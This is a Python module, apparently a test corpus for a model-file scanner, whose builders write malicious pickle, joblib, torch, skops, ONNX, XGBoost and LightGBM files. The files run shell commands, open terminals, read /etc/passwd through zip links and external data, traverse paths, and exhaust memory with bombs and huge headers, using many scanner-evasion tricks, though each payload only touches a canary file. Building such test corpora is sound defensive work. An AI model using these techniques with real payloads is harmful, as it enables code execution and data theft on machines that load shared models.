"""Model files that try to do harm. Each builder writes one file; `canary` is what it would touch."""

from __future__ import annotations

import bz2
import collections
import functools
import gzip
import io
import json
import lzma
import operator
import os
import pickle
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

Builder = Callable[[Path, str], Path]


class Calls:
    """Pickles as a call of `function(*args)`."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.function, self.args


def touch(canary: str) -> str:
    return f"touch {canary}"


def code(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def by_name(module: str, name: str, *args: Any) -> bytes:
    """A protocol 4 pickle that calls module.name(*args) without importing it here."""
    parts = [b"\x80\x04"]
    for text in (module, name):
        parts.append(b"\x8c" + bytes([len(text)]) + text.encode())
    parts.append(b"\x93(")
    parts += [pickle.dumps(a, 4)[2:-1] for a in args]
    return b"".join([*parts, b"tR."])


def dump(path: Path, value: Any) -> Path:
    path.write_bytes(value if isinstance(value, bytes) else pickle.dumps(value))
    return path


def _plain(make: Callable[[str], Any]) -> Builder:
    return lambda folder, canary: dump(folder / "model.pkl", make(canary))


def _joblib(compress: Any) -> Builder:
    def build(folder: Path, canary: str) -> Path:
        import joblib

        path = folder / "model.joblib"
        joblib.dump({"weights": [1, 2], "x": Calls(os.system, touch(canary))}, path, compress)
        return path

    return build


def _packed(pack: Callable[[bytes], bytes]) -> Builder:
    return lambda folder, canary: dump(
        folder / "model.joblib", pack(pickle.dumps(Calls(os.system, touch(canary))))
    )


def object_array(folder: Path, canary: str) -> Path:
    """joblib keeps arrays of objects as a pickle inside; older readers load it unchecked."""
    import joblib
    import numpy as np

    path = folder / "model.joblib"
    joblib.dump({"a": np.array([Calls(os.system, touch(canary)), None], dtype=object)}, path)
    return path


def memory_map(folder: Path, canary: str) -> Path:
    """numpy.memmap creates files."""
    return dump(folder / "model.pkl", by_name("numpy", "memmap", canary, "uint8", "w+", 0, (8,)))


def old_joblib_wrapper(folder: Path, canary: str) -> Path:
    """An NDArrayWrapper names another file, which joblib would open and unpickle."""
    Path(canary + ".npy").write_bytes(b"\x93NUMPY")
    body = (
        b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x0eNDArrayWrapper\x93)\x81}("
        + b"\x8c\x08filename" + pickle.dumps(canary + ".npy", 4)[2:-1]
        + b"\x8c\x08subclass\x8c\x05numpy\x8c\x07ndarray\x93ub."
    )  # fmt: skip
    return dump(folder / "model.joblib", body)


def renamed_to_onnx(folder: Path, canary: str) -> Path:
    return dump(folder / "model.onnx", Calls(os.system, touch(canary)))


def protocol_0(folder: Path, canary: str) -> Path:
    return dump(folder / "model.pkl", b"cos\nsystem\n(S'" + touch(canary).encode() + b"'\ntR.")


def old_instance(folder: Path, canary: str) -> Path:
    body = b"(S'" + touch(canary).encode() + b"'\nios\nsystem\n."
    return dump(folder / "model.pkl", body)


def dotted_name(folder: Path, canary: str) -> Path:
    return dump(folder / "model.pkl", by_name("joblib", "parallel.os.system", touch(canary)))


def borrowed_module(folder: Path, canary: str) -> Path:
    """Reach os through a module of scikit-learn that imported it."""
    return dump(folder / "model.pkl", by_name("sklearn.datasets._base", "os", touch(canary)))


def class_patch(folder: Path, canary: str) -> Path:
    """Fill a class instead of an instance: its methods would change for everybody."""
    body = (
        b"\x80\x04\x8c\x1csklearn.linear_model._logistic\x8c\x12LogisticRegression\x93"
        b"}\x8c\x07predict\x8c\x05numpy\x8c\x03exp\x93sb."
    )
    return dump(folder / "model.pkl", body)


def dunder_patch(folder: Path, canary: str) -> Path:
    """Give an instance a __setstate__ of the file's choosing."""
    body = (
        b"\x80\x04\x8c\x1csklearn.linear_model._logistic\x8c\x12LogisticRegression\x93)\x81"
        b"}\x8c\x0c__setstate__\x8c\x05numpy\x8c\x03exp\x93sb."
    )
    return dump(folder / "model.pkl", body)


def value_called(folder: Path, canary: str) -> Path:
    """A function that a model may hold, but whose call the file may not ask for."""
    return dump(folder / "model.pkl", by_name("numpy", "exp", 1.0))


def lying_dtype(folder: Path, canary: str) -> Path:
    """An array of objects whose bytes come from the file: pointers of the attacker's choice."""
    import numpy as np

    body = (
        b"\x80\x04\x8c\x16numpy._core.multiarray\x8c\x0c_reconstruct\x93"
        b"\x8c\x05numpy\x8c\x07ndarray\x93K\x00\x85C\x01b\x87R(K\x01K\x01\x85"
        + pickle.dumps(np.dtype("O"), 4)[2:-1]
        + b"\x89C\x08AAAAAAAAtb."
    )
    return dump(folder / "model.pkl", body)


def torch_zip(folder: Path, canary: str) -> Path:
    path = folder / "model.pt"
    with zipfile.ZipFile(path, "w") as out:
        out.writestr("archive/data.pkl", pickle.dumps(Calls(os.system, touch(canary)), 2))
        out.writestr("archive/constants.pkl", b"\x80\x02).")
        out.writestr("archive/version", b"3\n")
    return path


def torch_nested(folder: Path, canary: str) -> Path:
    """A torch.export archive whose sample inputs are a pickle of their own."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as out:
        out.writestr("x/data.pkl", pickle.dumps(Calls(os.system, touch(canary)), 2))
    path = folder / "model.pt2"
    with zipfile.ZipFile(path, "w") as out:
        out.writestr("m/archive_format", b"pt2")
        out.writestr("m/models/model.json", b"{}")
        out.writestr("m/data/sample_inputs/model.pt", inner.getvalue())
    return path


def zip_bomb(folder: Path, canary: str) -> Path:
    path = folder / "model.skops"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("schema.json", b"{}")
        with out.open("zeros.npy", "w", force_zip64=True) as file:
            for _ in range(300):
                file.write(b"\0" * 1_000_000)
    return path


def joblib_bomb(folder: Path, canary: str) -> Path:
    """A compressed joblib file whose one bytes object never seems to end."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(b"\x80\x04\x8e" + struct.pack("<Q", 300_000_000))]
    parts += [packer.compress(b"\0" * 1_000_000) for _ in range(300)]
    return dump(folder / "model.joblib", b"".join([*parts, packer.compress(b"."), packer.flush()]))


def zip_traversal(folder: Path, canary: str) -> Path:
    path = folder / "model.skops"
    with zipfile.ZipFile(path, "w") as out:
        out.writestr("schema.json", b"{}")
        out.writestr("../../canary", b"x")
    return path


def zip_link(folder: Path, canary: str) -> Path:
    path = folder / "model.skops"
    with zipfile.ZipFile(path, "w") as out:
        out.writestr("schema.json", b"{}")
        link = zipfile.ZipInfo("weights.npy")
        link.external_attr = 0o120777 << 16
        out.writestr(link, b"/etc/passwd")
    return path


def _skops(node: dict[str, Any]) -> Builder:
    def build(folder: Path, canary: str) -> Path:
        path = folder / "model.skops"
        text = json.dumps({**node, "protocol": 2, "_skops_version": "0.16"})
        with zipfile.ZipFile(path, "w") as out:
            out.writestr("schema.json", text.replace("CANARY", canary))
        return path

    return build


def onnx_external(folder: Path, canary: str) -> Path:
    """The weights are another file of the machine."""
    from onnx import TensorProto, helper

    Path(canary + ".bin").write_bytes(b"\0" * 4)
    weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1, 1])
    weights.data_location = TensorProto.EXTERNAL
    weights.external_data.add(key="location", value="../../../../etc/passwd")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 1])], [weights],
    )  # fmt: skip
    path = folder / "model.onnx"
    path.write_bytes(helper.make_model(graph).SerializeToString())
    return path


def xgboost_huge(folder: Path, canary: str) -> Path:
    """UBJSON that claims an array of 2**62 numbers."""
    body = b"{L" + struct.pack(">q", 7) + b"learner{L" + struct.pack(">q", 4) + b"name[$d#L"
    return dump(folder / "model.ubj", body + struct.pack(">q", 1 << 62))


def xgboost_wild(folder: Path, canary: str) -> Path:
    """A tree that points outside of itself."""
    tree = {
        "left_children": [99, -1, -1], "right_children": [2, -1, -1], "split_indices": [0, 0, 0],
        "split_conditions": [0.5, 1, 2], "tree_param": {"num_nodes": "3"},
    }  # fmt: skip
    model = {
        "version": [3, 0, 0],
        "learner": {
            "learner_model_param": {"num_feature": "2", "num_class": "0"},
            "gradient_booster": {"model": {"trees": [tree]}, "name": "gbtree"},
            "objective": {"name": "binary:logistic"},
        },
    }
    return dump(folder / "model.json", json.dumps(model).encode())


def lightgbm_wild(folder: Path, canary: str) -> Path:
    text = (
        "tree\nversion=v4\nnum_class=1\nmax_feature_idx=1\nobjective=regression\n"
        "feature_names=a b\n\nTree=0\nnum_leaves=2\nsplit_feature=7\nleft_child=-1\n"
        "right_child=-9999\nleaf_value=1 2\n\nend of trees\n"
    )
    return dump(folder / "model.txt", text.encode())


def tree_out_of_bounds(folder: Path, canary: str) -> Path:
    """A decision tree whose root's child does not exist."""
    import joblib
    import numpy as np
    from sklearn.tree import DecisionTreeClassifier

    rows = np.arange(40.0).reshape(20, 2)
    model = DecisionTreeClassifier(random_state=0).fit(rows, rows[:, 0] > 20)
    state = model.tree_.__getstate__()
    state["nodes"]["left_child"][0] = 1_000_000
    model.tree_.__setstate__(state)
    path = folder / "model.joblib"
    joblib.dump(model, path)
    return path


def forest_too_wide(folder: Path, canary: str) -> Path:
    """A forest that says two features and whose trees read thirty."""
    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier

    rows = np.random.default_rng(0).normal(size=(50, 30))
    model = RandomForestClassifier(3, random_state=0).fit(rows, rows[:, 29] > 0)
    model.n_features_in_ = 2
    path = folder / "model.joblib"
    joblib.dump(model, path)
    return path


def reads_files(folder: Path, canary: str) -> Path:
    """A text model that opens whatever file a request names."""
    import joblib
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    model = make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(
        ["good day", "bad day"], [0, 1]
    )
    model[0].input = "filename"
    path = folder / "model.joblib"
    joblib.dump(model, path)
    return path


def endless_hash(folder: Path, canary: str) -> Path:
    """A few hundred bytes whose hash takes longer than the universe has."""
    body = b"\x80\x04})" + b"2\x86" * 70 + b"Ns."
    return dump(folder / "model.pkl", body)


def pickle_in_pickle(folder: Path, canary: str) -> Path:
    """The harm lies in bytes that the outer pickle asks to unpickle."""
    inner = pickle.dumps(Calls(os.system, touch(canary)))
    return dump(folder / "model.pkl", by_name("_pickle", "loads", inner))


def archive_in_archive(folder: Path, canary: str) -> Path:
    """gzip of gzip of a pickle: a reader that unpacks once sees no pickle."""
    inner = gzip.compress(pickle.dumps(Calls(os.system, touch(canary))))
    return dump(folder / "model.joblib", gzip.compress(inner))


def deep_nesting(folder: Path, canary: str) -> Path:
    """A list in a list, thirty thousand times: too deep for a reader that recurses."""
    return dump(folder / "model.pkl", b"\x80\x04" + b"]" * 30_000 + b"a" * 29_999 + b".")


def doubling_memo(folder: Path, canary: str) -> Path:
    """Forty lists, each holding the one before twice, then a name that runs commands."""
    body = b"\x80\x04]\x94" + b"".join(
        b"](h" + bytes([i]) + b"h" + bytes([i]) + b"e\x94" for i in range(40)
    )
    return dump(folder / "model.pkl", body + by_name("os", "system", touch(canary))[2:])


def endless_text(folder: Path, canary: str) -> Path:
    """A text that says it has 2**60 characters."""
    return dump(folder / "model.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x" * 50)


def endless_text_packed(folder: Path, canary: str) -> Path:
    """The same text in a gzip file, whose unpacked length nobody knows beforehand."""
    data = b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x" * 50
    return dump(folder / "model.joblib", gzip.compress(data))


def endless_bytearray(folder: Path, canary: str) -> Path:
    """A bytearray that says it has 2**60 bytes: Python's unpickler makes room for them first."""
    return dump(folder / "model.pkl", b"\x80\x05\x96" + struct.pack("<Q", 1 << 60) + b"x" * 50)


def huge_frame(folder: Path, canary: str) -> Path:
    """A frame header that promises far more than the file holds."""
    return dump(folder / "model.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 50) + b"N.")


def huge_array_header(folder: Path, canary: str) -> Path:
    """joblib's array header claims a shape of 2**50 numbers."""
    import joblib
    import numpy as np

    path = folder / "model.joblib"
    joblib.dump(np.arange(7.0), path)
    data = path.read_bytes()
    claimed = b"\x8a\x07" + (1 << 50).to_bytes(7, "little") + b"\x85"
    assert data.count(b"K\x07\x85") == 1
    # the frame grows with its content
    at = data.index(b"\x95") + 1
    longer = struct.pack("<Q", struct.unpack("<Q", data[at : at + 8])[0] + len(claimed) - 3)
    data = data[:at] + longer + data[at + 8 :]
    return dump(path, data.replace(b"K\x07\x85", claimed))


def skops_header(folder: Path, canary: str) -> Path:
    """An array in a skops file whose header is 3 MB of blanks."""
    path = folder / "model.skops"
    node = {"__module__": "numpy", "__class__": "ndarray", "__loader__": "NdArrayNode",
            "type": "numpy", "file": "a.npy", "protocol": 2, "_skops_version": "0.16"}  # fmt: skip
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("schema.json", json.dumps(node))
        blank = b" " * 3_000_000
        out.writestr("a.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", len(blank)) + blank)
    return path


def skops_huge_schema(folder: Path, canary: str) -> Path:
    """A schema that nests a hundred thousand levels deep."""
    path = folder / "model.skops"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("schema.json", '{"content":' * 100_000 + "1" + "}" * 100_000)
    return path


def zip_twins(folder: Path, canary: str) -> Path:
    """Two schemas of one name: a scanner may read one and the loader the other."""
    import warnings

    path = folder / "model.skops"
    harm = json.dumps({**_SYSTEM, "__loader__": "FunctionNode", "protocol": 2,
                       "_skops_version": "0.16"})  # fmt: skip
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as out:
        warnings.simplefilter("ignore")
        out.writestr("schema.json", harm)
        out.writestr("schema.json", "{}")
    return path


def _onnx(path: Path, nodes: list[Any], weights: list[Any], **more: Any) -> Path:
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes, "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 1])], weights,
    )  # fmt: skip
    path.write_bytes(helper.make_model(graph, **more).SerializeToString())
    return path


def onnx_branch_external(folder: Path, canary: str) -> Path:
    """The other file is named within a branch of the graph."""
    from onnx import TensorProto, helper

    weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1, 1])
    weights.data_location = TensorProto.EXTERNAL
    weights.external_data.add(key="location", value="/etc/passwd")
    out = [helper.make_tensor_value_info("b", TensorProto.FLOAT, None)]
    branch = helper.make_graph([helper.make_node("Identity", ["w"], ["b"])], "in", [], out,
                               [weights])  # fmt: skip
    truth = helper.make_tensor("t", TensorProto.BOOL, [], [True])
    nodes = [helper.make_node("If", ["t"], ["c"], then_branch=branch, else_branch=branch),
             helper.make_node("MatMul", ["x", "c"], ["y"])]  # fmt: skip
    return _onnx(folder / "model.onnx", nodes, [truth])


def onnx_own_operator(folder: Path, canary: str) -> Path:
    """An operator of a library that the loader would have to bring along."""
    from onnx import helper

    nodes = [helper.make_node("Run", ["x"], ["y"], domain="evil.ops", command=touch(canary))]
    imports = [helper.make_opsetid("", 17), helper.make_opsetid("evil.ops", 1)]
    return _onnx(folder / "model.onnx", nodes, [], opset_imports=imports)


def onnx_huge_tensor(folder: Path, canary: str) -> Path:
    """A constant of 2**62 values, of which the file holds none."""
    from onnx import TensorProto, helper

    weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1 << 31, 1 << 31])
    return _onnx(folder / "model.onnx", [helper.make_node("MatMul", ["x", "w"], ["y"])], [weights])


_SYSTEM = {"__module__": "os", "__class__": "system"}
CORPUS: dict[str, Builder] = {
    "os.system": _plain(lambda c: Calls(os.system, touch(c))),
    "subprocess": _plain(lambda c: Calls(subprocess.Popen, ["touch", c])),
    "eval": _plain(lambda c: Calls(eval, code(c))),
    "exec": _plain(lambda c: Calls(exec, code(c))),
    "open for writing": _plain(lambda c: Calls(open, c, "w")),
    "getattr": _plain(lambda c: Calls(getattr, Calls(__import__, "os"), "system")),
    "pydoc.locate": _plain(lambda c: by_name("pydoc", "locate", "os.system")),
    "timeit": _plain(lambda c: by_name("timeit", "timeit", code(c), "pass", None, 1)),
    "importlib": _plain(lambda c: by_name("importlib", "import_module", "antigravity")),
    "runpy": _plain(lambda c: by_name("runpy", "run_path", c)),
    "numpy runstring": _plain(
        lambda c: by_name("numpy.testing._private.utils", "runstring", code(c), {})
    ),
    "numpy.load": _plain(lambda c: by_name("numpy", "load", c, None, True)),
    "numpy f2py": _plain(lambda c: by_name("numpy.f2py", "compile", code(c))),
    "joblib.load": _plain(lambda c: by_name("joblib", "load", c)),
    "functools.partial": _plain(
        lambda c: Calls(map, functools.partial(os.system, touch(c)), [()])
    ),
    "operator.attrgetter": _plain(lambda c: Calls(operator.attrgetter("__class__"), c)),
    "defaultdict factory": _plain(
        lambda c: collections.defaultdict(functools.partial(os.system, touch(c)))
    ),
    "scipy.stats shapes": _plain(
        lambda c: by_name("scipy.stats._distn_infrastructure", "rv_continuous", 1)
    ),
    "sklearn testing helper": _plain(
        lambda c: by_name("sklearn.utils._testing", "TempMemmap", [1], "w+")
    ),
    "sklearn datasets": _plain(lambda c: by_name("sklearn.datasets", "load_files", "/etc")),
    "pandas reader": _plain(lambda c: by_name("pandas", "read_pickle", c)),
    "marshal": _plain(lambda c: by_name("marshal", "loads", b"\xe3")),
    "code object": _plain(lambda c: by_name("types", "CodeType", 0)),
    "native library": _plain(lambda c: by_name("ctypes", "CDLL", "libc.so.6")),
    "numpy native library": _plain(
        lambda c: by_name("numpy.ctypeslib", "load_library", "libc.so.6", "/lib")
    ),
    "cProfile.run": _plain(lambda c: by_name("cProfile", "run", code(c))),
    "terminal": _plain(lambda c: by_name("pty", "spawn", ["touch", c])),
    "network": _plain(lambda c: by_name("urllib.request", "urlopen", "http://127.0.0.1:9/")),
    "remove files": _plain(lambda c: by_name("shutil", "rmtree", "/tmp/none-of-ours")),
    "cloudpickle": _plain(lambda c: by_name("cloudpickle.cloudpickle", "_make_function", 1)),
    "torch.load": _plain(lambda c: by_name("torch.serialization", "load", c)),
    "pickle in pickle": pickle_in_pickle,
    "archive in archive": archive_in_archive,
    "deep nesting": deep_nesting,
    "doubling memo": doubling_memo,
    "endless text": endless_text,
    "endless text packed": endless_text_packed,
    "endless bytearray": endless_bytearray,
    "huge frame": huge_frame,
    "huge array header": huge_array_header,
    "skops huge header": skops_header,
    "skops deep schema": skops_huge_schema,
    "skops twins": zip_twins,
    "onnx external data in a branch": onnx_branch_external,
    "onnx own operator": onnx_own_operator,
    "onnx huge tensor": onnx_huge_tensor,
    "joblib plain": _joblib(0),
    "joblib zlib": _joblib(3),
    "joblib gzip": _joblib(("gzip", 3)),
    "joblib bz2": _joblib(("bz2", 3)),
    "joblib xz": _joblib(("xz", 1)),
    "joblib lzma": _joblib(("lzma", 1)),
    "zlib of a pickle": _packed(zlib.compress),
    "gzip of a pickle": _packed(gzip.compress),
    "bz2 of a pickle": _packed(bz2.compress),
    "xz of a pickle": _packed(lzma.compress),
    "object array": object_array,
    "numpy.memmap": memory_map,
    "old joblib wrapper": old_joblib_wrapper,
    "renamed to .onnx": renamed_to_onnx,
    "protocol 0": protocol_0,
    "old-style instance": old_instance,
    "dotted name": dotted_name,
    "borrowed module": borrowed_module,
    "class patch": class_patch,
    "dunder patch": dunder_patch,
    "value called": value_called,
    "lying dtype": lying_dtype,
    "torch zip": torch_zip,
    "torch nested": torch_nested,
    "zip bomb": zip_bomb,
    "joblib bomb": joblib_bomb,
    "zip traversal": zip_traversal,
    "zip link": zip_link,
    "skops function": _skops({**_SYSTEM, "__loader__": "FunctionNode"}),
    "skops object": _skops({**_SYSTEM, "__loader__": "ObjectNode", "content": None}),
    "skops method": _skops({"__module__": "builtins", "__class__": "method",
                            "__loader__": "MethodNode", "content": {"func": "load_dataset"}}),
    "skops memmap": _skops({"__module__": "numpy", "__class__": "memmap",
                            "__loader__": "ConstructorFromReduceNode", "content": None}),
    "skops numpy.load": _skops({"__module__": "numpy", "__class__": "load",
                                "__loader__": "FunctionNode"}),
    "onnx external data": onnx_external,
    "xgboost huge array": xgboost_huge,
    "xgboost wild tree": xgboost_wild,
    "lightgbm wild tree": lightgbm_wild,
    "tree out of bounds": tree_out_of_bounds,
    "forest too wide": forest_too_wide,
    "reads files": reads_files,
}  # fmt: skip
